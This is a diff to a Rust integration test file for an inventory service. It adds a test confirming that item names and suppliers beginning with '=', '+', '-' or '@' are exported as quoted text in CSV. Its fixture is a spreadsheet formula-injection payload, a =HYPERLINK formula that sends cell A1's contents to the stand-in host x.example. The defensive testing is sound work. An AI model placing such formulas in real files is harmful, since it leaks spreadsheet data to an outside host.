@@ -60,17 +60,14 @@ impl Desk {
         response.text().await.expect("text")
     }
 
+    /// The site's items as the items report lists them.
+    async fn items_page(&self) -> Value {
+        let text = self.get_text("/api/reports/items?site=north").await;
+        serde_json::from_str(&text).expect("json")
+    }
+
     async fn items_total(&self) -> i64 {
-        let page: Value = self
-            .client
-            .get(format!("{}/api/reports/items?site=north", self.server.base))
-            .bearer_auth(&self.meg)
-            .send()
-            .await
-            .expect("request")
-            .json()
-            .await
-            .expect("json");
+        let page = self.items_page().await;
         page["total"].as_i64().expect("total")
     }
 }
@@ -292,6 +289,81 @@ async fn locations_round_trip(backend: Backend) {
     assert_eq!(columns, ["parent_code", "parent_code"], "{report}");
 }
 
+/// The issue's example: an item name a spreadsheet would run as a link formula.
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")";
+
+/// Every CSV cell of `csv` that a spreadsheet would run as a formula (RFC 4180 quoting
+/// undone; a plain number such as `-3` is not one).
+fn live_formulas(csv: &str) -> Vec<String> {
+    let mut cells = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = csv.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
+            ('\r', false) => {}
+            (c, _) => cell.push(c),
+        }
+    }
+    cells
+        .into_iter()
+        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err())
+        .collect()
+}
+
+async fn formulas_stay_text(backend: Backend) {
+    let desk = start(backend).await;
+    let path = "/api/sites/north/import/items";
+    let file = format!(
+        "sku,name,unit,unit_cost_minor,supplier\n\
+         FW-66,\"{}\",each,100,@SUM(A1)\n\
+         FW-67,-2 mm shims,each,3,+Acme\n",
+        FORMULA_NAME.replace('"', "\"\"")
+    );
+    let report = desk.import(path, &file, 200).await;
+    assert_eq!(report["imported"], 2, "{backend:?}: {report}");
+    wait_until(10, "the items to be flattened", || async {
+        desk.items_total().await == 2
+    })
+    .await;
+
+    let export = desk.get_text("/api/sites/north/export/items.csv").await;
+    let report_csv = desk
+        .get_text("/api/reports/items?site=north&format=csv")
+        .await;
+    for (name, csv) in [("items.csv", &export), ("the items report", &report_csv)] {
+        assert_eq!(
+            live_formulas(csv),
+            Vec::<String>::new(),
+            "{backend:?} {name}:\n{csv}"
+        );
+        assert!(
+            csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\""),
+            "{backend:?} {name} keeps the name, as text:\n{csv}"
+        );
+        for text in ["\"'@SUM(A1)\"", "\"'-2 mm shims\"", "\"'+Acme\""] {
+            assert!(csv.contains(text), "{backend:?} {name} has {text}:\n{csv}");
+        }
+    }
+    // The export imports back unchanged: the `'` comes off again.
+    let report = desk.import(path, &export, 200).await;
+    assert_eq!(report["unchanged"], 2, "{backend:?}: {report}");
+    let page = desk.items_page().await;
+    let names: Vec<&Value> = page["rows"]
+        .as_array()
+        .expect("rows")
+        .iter()
+        .map(|r| &r["name"])
+        .collect();
+    assert!(names.contains(&&Value::from(FORMULA_NAME)), "{page}");
+}
+
 async fn bad_input(backend: Backend) {
     let desk = start(backend).await;
     let path = "/api/sites/north/import/items";
@@ -385,5 +457,12 @@ async fn locations_import_and_export_round_trip_on_every_backend() {
 async fn bad_imports_are_refused_clearly_on_every_backend() {
     for backend in BACKENDS {
         bad_input(backend).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formulas_in_names_come_back_as_text_in_every_export_on_every_backend() {
+    for backend in BACKENDS {
+        formulas_stay_text(backend).await;
     }
 }
